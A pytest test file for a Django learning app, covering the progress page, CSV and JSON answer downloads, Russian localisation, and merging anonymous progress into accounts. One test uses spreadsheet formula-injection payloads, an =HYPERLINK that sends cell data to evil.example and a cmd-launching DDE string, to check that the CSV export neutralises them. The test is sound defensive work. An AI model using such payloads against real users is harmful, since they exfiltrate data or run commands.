"""My progress, the downloads, and anonymous progress moving to an account."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import timedelta

import pytest
from django.contrib.auth import get_user_model
from django.test import Client
from django.utils import timezone

from climb.learning.models import Answer, Learner, TierReached
from lessons.models import Tier

from .concurrency import at_once, needs_concurrent_transactions
from .factories import make_answer, make_climb, make_piece, make_version

pytestmark = pytest.mark.django_db
HTMX = {"HX-Request": "true"}


@pytest.fixture
def version():
    return make_version(make_piece(make_climb(slug="ds", title="Distributed Systems")), steps=2)


def questions(version):
    return [step.question for step in version.steps.select_related("question")]


def answer(client, question, right=True, attempt=1):
    choice = question.choices.filter(is_correct=right).first()
    return client.post(
        "/answer/", {"question": question.pk, "choice": choice.pk, "attempt": attempt}, headers=HTMX
    )


def make_user(username="ada", password="correct horse battery staple"):
    return get_user_model().objects.create_user(username, f"{username}@example.com", password)


def test_progress_page_shows_altitude_accuracy_and_recent_answers(client, version):
    first, second = questions(version)
    answer(client, first, right=False)
    answer(client, first, right=True, attempt=2)
    answer(client, second, right=True)
    html = client.get("/progress/").content.decode()
    assert "Distributed Systems" in html
    assert "50%" in html  # one of two first attempts was right
    assert html.count('class="result is-right"') == 2
    assert html.count('class="result is-wrong"') == 1
    assert "/progress/answers.csv" in html and "/progress/answers.json" in html


def test_progress_rounds_accuracy_as_the_team_dashboard_does(client):
    """10 of 16 is 62.5%: the dashboard says 63%, and so must the member's own page (Python's
    round() gave 62, so a manager saw two figures for one person)."""
    version = make_version(make_piece(make_climb(slug="ds")), steps=16)
    for number, question in enumerate(questions(version)):
        answer(client, question, right=number < 10)
    html = client.get("/progress/").content.decode()
    assert '<p class="big-number">63%</p>' in html


def test_progress_and_home_pages_say_what_the_next_tier_asks_for(client, version):
    make_version(make_piece(version.piece.climb, slug="second"), steps=1)
    # Nothing answered yet: what the first tier asks for, as a new account is told.
    assert (
        '<td data-label="Next tier">Zero: 0 of 2 pieces cleared.</td>'
        in client.get("/progress/").content.decode()
    )
    first, second = questions(version)
    answer(client, first)
    answer(client, second)  # the first piece cleared: one of the two at Zero
    row = client.get("/progress/").content.decode().split("Distributed Systems", 1)[1]
    assert row.split("</tr>", 1)[0].count("Zero: 1 of 2 pieces cleared.") == 1
    ru = client.get("/ru/progress/").content.decode()
    assert "Zero — пройдено уроков: 1 из 2." in ru
    # The home page's climb card says it too, once the climb is started.
    card = client.get("/").content.decode().split('class="card climb-card"', 1)[1]
    assert "<dt>Next tier</dt><dd>Zero: 1 of 2 pieces cleared.</dd>" in card


def test_recent_answers_say_how_long_ago_in_the_reader_s_language(client, version):
    first, second = questions(version)
    answer(client, first)
    answer(client, second)
    Answer.objects.filter(question=second).update(
        created_at=timezone.now() - timedelta(hours=3, minutes=5)
    )
    html = client.get("/progress/").content.decode()
    assert ">now</time>" in html  # not "0 minutes"
    assert ">3\xa0hours ago</time>" in html
    html = client.get("/ru/progress/").content.decode()
    assert ">сейчас</time>" in html
    assert ">3\xa0часа назад</time>" in html


def test_progress_page_with_no_answers(client, version):
    """The UX audit: a visitor who had answered nothing read "Base camp" and "0 / 0", where
    home and the team dashboard say "Not started", and a new account "0 / 2"."""
    html = client.get("/progress/").content.decode()
    assert "No answers yet." in html and "Base camp" not in html
    assert (
        '<td data-label="Altitude">Not started</td>' in html
        and '<td data-label="Questions answered">0 / 2</td>' in html
    )
    client.force_login(make_user())
    assert (
        client.get("/progress/")
        .content.decode()
        .count('<td data-label="Questions answered">0 / 2</td>')
        == 1
    )
    answer(client, questions(version)[0], right=False)
    html = client.get("/progress/").content.decode()
    assert (
        '<td data-label="Altitude">Base camp</td>' in html
        and '<td data-label="Questions answered">1 / 2</td>' in html
    )


def test_downloads_contain_every_answer(client, version):
    first, second = questions(version)
    answer(client, first, right=False)
    answer(client, first, right=True, attempt=2)
    answer(client, second)
    response = client.get("/progress/answers.csv")
    assert response["Content-Type"].startswith("text/csv")
    assert 'filename="climb-answers.csv"' in response["Content-Disposition"]
    body = b"".join(response.streaming_content)
    # A byte-order mark, as the team downloads have: Excel garbles Cyrillic without one.
    assert body.startswith("\ufeffanswered_at,".encode())
    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))
    assert rows[0]["answered_at"]
    assert [(r["attempt"], r["correct"]) for r in rows] == [
        ("1", "false"),
        ("2", "true"),
        ("1", "true"),
    ]
    assert rows[0]["climb"] == "ds" and rows[0]["tier"] == "zero"
    data = json.loads(b"".join(client.get("/progress/answers.json").streaming_content))
    assert len(data) == 3 and data[2]["correct"] is True


def test_downloads_read_answers_as_shown_after_the_choice_is_edited_or_removed(client, version):
    first, second = questions(version)
    wrong = first.choices.filter(is_correct=False).first()
    shown_prompt, shown_text = first.prompt, wrong.text
    answer(client, first, right=False)
    answer(client, second)
    wrong.delete()  # the author drops the choice this learner picked
    first.prompt = "A rewritten prompt"
    first.save()
    data = json.loads(b"".join(client.get("/progress/answers.json").streaming_content))
    assert [(row["question"], row["choice"]) for row in data][0] == (shown_prompt, shown_text)
    rows = list(
        csv.DictReader(
            io.StringIO(
                b"".join(client.get("/progress/answers.csv").streaming_content).decode("utf-8-sig")
            )
        )
    )
    assert len(rows) == 2 and rows[0]["choice"] == shown_text


def test_a_piece_taken_back_to_a_draft_shows_none_of_its_new_text(client, version):
    """The fuzz audit: after an author turned a version back into a draft and reworked it,
    /progress/, a member's progress page and the CSV showed the unreleased title, heading
    and question, linking to a 404. Its answers still count; their rows wait for it."""
    from climb.teams.models import Team
    from lessons.models import Question, Status, TierVersion

    user = make_user()
    team = Team.create_with_owner("Platform", user)
    client.force_login(user)
    first, second = questions(version)
    answer(client, first, right=False)
    answer(client, second, right=True)
    TierVersion.objects.filter(pk=version.pk).update(status=Status.DRAFT, title="UNRELEASED 1")
    step = first.step
    step.heading = "UNRELEASED 2"
    step.save()
    Question.objects.filter(pk=first.pk).update(prompt="UNRELEASED 3")
    for url in ("/progress/", f"/teams/{team.pk}/members/{user.pk}/progress/"):
        html = client.get(url).content.decode()
        assert "UNRELEASED" not in html, url
        assert "Recent answers" in html and 'class="result' not in html
    for url in ("/progress/answers.csv", "/progress/answers.json"):
        text = b"".join(client.get(url).streaming_content).decode("utf-8-sig")
        assert "UNRELEASED" not in text and text.count("zero") == 2, url  # both rows kept

    TierVersion.objects.filter(pk=version.pk).update(status=Status.PUBLISHED)
    html = client.get("/progress/").content.decode()
    assert "UNRELEASED 1" in html and "UNRELEASED 2" in html and "UNRELEASED 3" in html


def test_downloads_under_ru_read_as_a_russian_reader_saw_the_question(client, version):
    """The UX audit: answers given on /ru/ downloaded in English, the question and choice
    as no Russian reader saw them. The revision keeps the Russian, frozen like the English."""
    from lessons.models import Choice, Question, Step

    first, second = questions(version)
    Question.objects.filter(pk=first.pk).update(prompt_ru="Что будет дальше?")
    Step.objects.filter(pk=first.step_id).update(heading_ru="Шаг первый")
    wrong = first.choices.filter(is_correct=False).first()
    Choice.objects.filter(pk=wrong.pk).update(text_ru="Неверный вариант")
    first = Question.objects.get(pk=first.pk)
    client.post(
        "/ru/answer/", {"question": first.pk, "choice": wrong.pk, "attempt": 1}, headers=HTMX
    )
    answer(client, second)  # untranslated: English in either download
    Question.objects.filter(pk=first.pk).update(prompt_ru="Переписанный вопрос")  # since

    rows = json.loads(b"".join(client.get("/ru/progress/answers.json").streaming_content))
    assert (rows[0]["step"], rows[0]["question"], rows[0]["choice"]) == (
        "Шаг первый",
        "Что будет дальше?",  # as answered, not as rewritten since
        "Неверный вариант",
    )
    assert rows[1]["question"] == second.prompt
    text = b"".join(client.get("/ru/progress/answers.csv").streaming_content).decode("utf-8-sig")
    assert "Что будет дальше?" in text and "Неверный вариант" in text
    english = json.loads(b"".join(client.get("/progress/answers.json").streaming_content))
    assert (english[0]["question"], english[0]["choice"]) == (first.prompt, wrong.text)


def test_an_untranslated_question_keeps_its_revision_and_old_code_can_still_add_one(version):
    """Keeping the Russian in revisions must not re-freeze every untranslated question (its
    hash is the one it had before), and the previous release, which knows no prompt_ru, must
    still store a revision during a rolling deploy (the column has a database default)."""
    import hashlib

    from django.db import connection
    from django.utils import timezone

    from climb.learning.models import QuestionRevision

    first = questions(version)[0]
    choices = list(first.choices.all())
    before = [
        {"text": c.text, "is_correct": c.is_correct, "explanation": c.explanation} for c in choices
    ]
    payload = json.dumps([first.prompt, before], ensure_ascii=False, sort_keys=True)
    revision = QuestionRevision.current(first, choices)
    assert revision.content_hash == hashlib.sha256(payload.encode()).hexdigest()

    table = QuestionRevision._meta.db_table
    choices_field = QuestionRevision._meta.get_field("choices")
    with connection.cursor() as cursor:
        cursor.execute(
            f"INSERT INTO {table} (question_id, content_hash, prompt, choices, created_at) "
            "VALUES (%s, %s, %s, %s, %s)",
            [
                first.pk,
                "0" * 64,
                "old",
                choices_field.get_db_prep_value([], connection),
                timezone.now(),
            ],
        )
    assert QuestionRevision.objects.get(content_hash="0" * 64).prompt_ru == ""


def test_author_text_in_the_csv_download_is_never_a_formula(client, version):
    """The audit's case: a step heading, prompt or choice starting with = + - @ arrived in
    the learner's spreadsheet as a live formula (=HYPERLINK can send the sheet away)."""
    first, _ = questions(version)
    step = first.step
    step.heading = "=1+1"
    step.save()
    first.prompt = '=HYPERLINK("https://evil.example/?d="&A2,"click")'
    first.save()
    right = first.choices.get(is_correct=True)
    right.text = "@SUM(1+1)*cmd|' /C calc'!A0"
    right.save()
    answer(client, first)
    text = b"".join(client.get("/progress/answers.csv").streaming_content).decode("utf-8-sig")
    row = next(csv.DictReader(io.StringIO(text)))
    assert row["step"] == "'=1+1"
    assert row["question"].startswith("'=HYPERLINK(")
    assert row["choice"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    # JSON is data, not a sheet: as written.
    data = json.loads(b"".join(client.get("/progress/answers.json").streaming_content))
    assert data[0]["step"] == "=1+1"


def test_downloads_only_ever_hold_ones_own_answers(client, version):
    first = questions(version)[0]
    answer(client, first)
    other = type(client)()
    data = json.loads(b"".join(other.get("/progress/answers.json").streaming_content))
    assert data == []


def test_unknown_download_format_is_404(client):
    assert client.get("/progress/answers.xml").status_code == 404


@pytest.mark.parametrize("pieces", [1, 12])
def test_progress_page_query_count_is_fixed(client, version, django_assert_max_num_queries, pieces):
    """Session, learner, and the six of progress_context, whatever the history (misses to
    revisit included)."""
    versions = [version] + [
        make_version(make_piece(version.piece.climb, slug=f"p{n}", order=n), steps=2)
        for n in range(1, pieces)
    ]
    for each in versions:
        for question in questions(each):
            answer(client, question, right=False)
    with django_assert_max_num_queries(8):
        response = client.get("/progress/")
    assert response.status_code == 200
    assert response.content.decode().count("#question-") == min(2 * pieces, 10)
    # A visitor who has answered nothing: the climbs and the (cached) question counts.
    with django_assert_max_num_queries(3):
        assert Client().get("/progress/").status_code == 200


def test_questions_missed_at_the_first_try_are_listed_until_a_new_round_gets_them_right(
    client, version
):
    first, second = questions(version)
    first.prompt = "Is `a < b` *true* when [a](https://example.com) is 1?"
    first.save()
    assert "To revisit" not in client.get("/progress/").content.decode()  # nothing answered
    answer(client, first, right=False)
    answer(client, first, right=True, attempt=2)  # a retry: the first try still missed
    answer(client, second, right=True)
    html = client.get("/progress/").content.decode()
    section = html.split('id="revisit-heading"', 1)[1].split("</section>", 1)[0]
    # To the step, not its quiz: the heading and the snippet the question is about come first
    # (the learner audit: the link landed below the code to be read again).
    assert f'href="{version.get_absolute_url()}#question-{first.pk}"' in section
    assert f"#question-{second.pk}" not in section
    page = client.get(version.get_absolute_url()).content.decode()
    step = page.split(f'id="question-{first.pk}"', 1)[1].split("</section>", 1)[0]
    assert step.index("<h2") < step.index('class="quiz"')
    # The prompt as text, its Markdown rendered away, escaped once (it read "a &amp;lt; b").
    assert "Is a &lt; b true when a is 1?" in section

    # 1 of 2 right at the first try does not clear the piece: a new round, right this time.
    assert client.post(f"/retake/{version.pk}/").status_code == 302
    answer(client, first, right=True)
    html = client.get("/progress/").content.decode()
    assert f"#question-{first.pk}" not in html
    assert "has been answered right at a first try since." in html  # missed, then right


def test_nothing_to_revisit_says_whether_anything_was_ever_missed(client, version):
    """The audit: someone who never missed a question read that every question they missed
    had been answered right since."""
    first, second = questions(version)
    answer(client, first, right=True)
    answer(client, second, right=True)
    html = client.get("/progress/").content.decode()
    assert "Nothing to revisit: no question has been missed at the first try." in html
    assert "answered right at a first try since" not in html


def test_nothing_to_revisit_claims_nothing_about_misses_in_a_piece_back_in_drafts(client, version):
    """The teams audit: a learner whose only miss is in a piece since taken back to drafts
    (left out of the list) read that every question missed had been answered right since."""
    from lessons.models import Status, TierVersion

    first, _ = questions(version)
    answer(client, first, right=False)
    TierVersion.objects.filter(pk=version.pk).update(status=Status.DRAFT)
    html = client.get("/progress/").content.decode()
    assert f"#question-{first.pk}" not in html
    assert "Nothing to revisit in the pieces that are out now." in html
    assert "answered right at a first try since" not in html
    assert "no question has been missed" not in html


def test_anonymous_progress_moves_to_the_account_on_login(client, version):
    first, second = questions(version)
    answer(client, first, right=True)
    make_user()
    response = client.post(
        "/accounts/login/", {"username": "ada", "password": "correct horse battery staple"}
    )
    assert response.status_code == 302
    learner = Learner.objects.get(user__username="ada")
    assert list(learner.answers.values_list("question_id", "attempt")) == [(first.pk, 1)]
    assert Learner.objects.filter(user__isnull=True).count() == 0
    # and the page shows it
    assert "Right." in client.get(version.get_absolute_url()).content.decode()


def test_anonymous_progress_moves_to_a_new_account_on_sign_up(client, version):
    first = questions(version)[0]
    answer(client, first, right=False)
    # The progress page's invitation to sign up comes back to it afterwards.
    assert 'href="/accounts/signup/?next=/progress/"' in client.get("/progress/").content.decode()
    response = client.post(
        "/accounts/signup/",
        {
            "username": "grace",
            "email": "grace@example.com",
            "password1": "an unguessable phrase 42",
            "password2": "an unguessable phrase 42",
        },
    )
    assert response.status_code == 302
    assert Answer.objects.get().learner.user.username == "grace"
    # Said once, on the next page that shows messages (a newcomer could not tell).
    page = client.get("/progress/").content.decode()
    assert "Your answers from this browser are in your account now." in page
    assert "in your account now" not in client.get("/progress/").content.decode()


def test_logging_in_with_nothing_answered_says_nothing_moved(client):
    make_user()
    session = client.session  # an anonymous learner with no answers (all since removed)
    session["learner_id"] = Learner.objects.create().pk
    session.save()
    client.post("/accounts/login/", {"username": "ada", "password": "correct horse battery staple"})
    assert "in your account now" not in client.get("/progress/").content.decode()


def test_merging_keeps_the_earliest_first_answer_and_every_attempt(version):
    first, second = questions(version)
    user = make_user()
    account = Learner.objects.create(user=user)
    anonymous = Learner.objects.create()
    wrong, right = first.choices.get(position=0), first.choices.get(is_correct=True)
    now = timezone.now()
    # the account answered later (right), the anonymous session earlier (wrong)
    make_answer(account, right, created_at=now)
    make_answer(anonymous, wrong, created_at=now - timedelta(days=1))
    make_answer(anonymous, second.choices.get(is_correct=True))
    TierReached.objects.create(
        learner=anonymous,
        climb=version.piece.climb,
        tier=Tier.ZERO,
        reached_at=now - timedelta(days=2),
    )
    assert anonymous.merge_into(account) == 2  # the answers it moved
    merged = list(account.answers.filter(question=first).values_list("attempt", "is_correct"))
    assert merged == [(1, False), (2, True)]
    assert account.answers.count() == 3
    assert not Learner.objects.filter(pk=anonymous.pk).exists()
    record = account.tiers_reached.get()
    assert record.reached_at == now - timedelta(days=2)


def test_logging_out_starts_a_fresh_anonymous_learner(client, version):
    first = questions(version)[0]
    user = make_user()
    client.force_login(user)
    answer(client, first)
    client.post("/accounts/logout/")
    html = client.get(version.get_absolute_url()).content.decode()
    assert "Right." not in html


def test_a_version_without_questions_does_not_keep_a_piece_from_being_cleared():
    from climb.learning.progress import progress_context

    climb = make_climb()
    piece = make_piece(climb)
    make_version(piece, tier=Tier.ZERO, steps=1)
    make_version(piece, tier=Tier.JUNIOR, steps=0)  # prose only: nothing to answer
    learner = Learner.objects.create()
    for version in piece.versions.filter(tier=Tier.ZERO):
        for step in version.steps.select_related("question"):
            make_answer(learner, step.question.choices.get(is_correct=True))
    row = next(r for r in progress_context(learner.pk)["rows"] if r["climb"] == climb)
    assert row["pieces_cleared"] == 1  # as the climb page counts it (piece_status)


def test_a_signed_in_learner_finds_the_password_change_on_their_progress_page(client):
    assert "/accounts/password/change/" not in client.get("/progress/").content.decode()
    client.force_login(make_user())
    html = client.get("/progress/").content.decode()
    assert "Signed in as ada." in html
    assert 'href="/accounts/password/change/"' in html


def test_the_climb_and_home_pages_say_where_to_pick_the_climb_up(client):
    climb = make_climb(slug="ds", title="Distributed Systems")
    first = make_version(make_piece(climb, slug="one", order=1), title="Leaders", steps=2)
    second = make_version(make_piece(climb, slug="two", order=2), title="Leases", steps=1)

    def resume_link(html: str) -> str:
        return re.search(r'<a class="resume-link" href="([^"]+)"', html).group(1)

    for url in ("/", climb.get_absolute_url()):
        html = client.get(url).content.decode()
        assert "Start the climb" in html
        assert resume_link(html) == first.get_absolute_url(), url

    one, two = questions(first)
    answer(client, one)  # the first piece begun
    for url in ("/", climb.get_absolute_url()):
        html = client.get(url).content.decode()
        assert "Pick up where you left off" in html, url
        assert resume_link(html) == first.get_absolute_url() + "#step-2", url  # still open

    answer(client, two, right=False)  # finished, not cleared: a new round is the way on
    for url in ("/", climb.get_absolute_url()):
        html = client.get(url).content.decode()
        assert "Not cleared yet: climb it again" in html, url
        assert resume_link(html) == first.get_absolute_url() + "#recap", url  # its button

    client.post(f"/retake/{first.pk}/")
    answer(client, one)
    answer(client, two)  # the first piece cleared: the next one was never opened
    for url in ("/", climb.get_absolute_url()):
        html = client.get(url).content.decode()
        assert "Next piece to clear" in html and "where you left off" not in html, url
        assert resume_link(html) == second.get_absolute_url(), url
        assert "Leases" in html

    answer(client, questions(second)[0])  # now everything
    html = client.get(climb.get_absolute_url()).content.decode()
    assert "Every piece of this climb is cleared" in html
    assert "resume-link" not in html
    # Someone new still gets the shared page, which starts at the beginning.
    other = Client()
    assert "Start the climb" in other.get(climb.get_absolute_url()).content.decode()


def test_a_climb_cleared_everywhere_offers_no_new_round_that_its_pieces_refuse(client, version):
    # A cleared piece has no "Climb it again" (Retake.start refuses it): the climb's closing
    # line once sent the learner to its page for one.
    for question in questions(version):
        answer(client, question)
    for url in ("/", version.piece.climb.get_absolute_url()):
        html = client.get(url).content.decode()
        assert "Every piece of this climb is cleared" in html, url
        assert "climb a piece again" not in html, url
    assert "Climb it again" not in client.get(version.get_absolute_url()).content.decode()
    assert client.post(f"/retake/{version.pk}/").status_code == 400


@needs_concurrent_transactions
@pytest.mark.django_db(transaction=True)
def test_an_answer_posted_while_signing_in_is_merged_or_refused_never_lost():
    """The concurrency audit (from reading the code): an answer the anonymous learner made
    in another tab after the merge read their answers was deleted with the anonymous learner
    at the end of the merge, though the learner had been told it was stored."""
    import threading

    from django.db import connection

    from climb.learning.models import Answer

    version = make_version(make_piece(make_climb(slug="ds")), steps=2)
    first, second = questions(version)
    account, anonymous = Learner.objects.create(user=make_user()), Learner.objects.create()
    make_answer(anonymous, first.choices.get(is_correct=True))
    read, posted = threading.Event(), threading.Event()

    def merge_waits_after_reading(execute, sql, params, many, context):
        result = execute(sql, params, many, context)
        if sql.startswith("SELECT") and 'FROM "learning_answer"' in sql and not read.is_set():
            read.set()
            posted.wait(1)  # the other tab's answer lands here, without the lock
        return result

    def merge():
        with connection.execute_wrapper(merge_waits_after_reading):
            return anonymous.merge_into(account)

    def other_tab():
        read.wait(5)
        try:
            return Answer.record(anonymous, second.choices.get(is_correct=True), 1).created
        except ValueError:  # refused, and the learner is told so
            return False
        finally:
            posted.set()

    moved, stored = at_once(merge, other_tab)
    assert moved == 1
    kept = Answer.objects.filter(question=second).count()
    assert kept == (1 if stored else 0)  # told it was stored, it is (in the account)
    assert Answer.objects.filter(learner=account).count() == 1 + kept
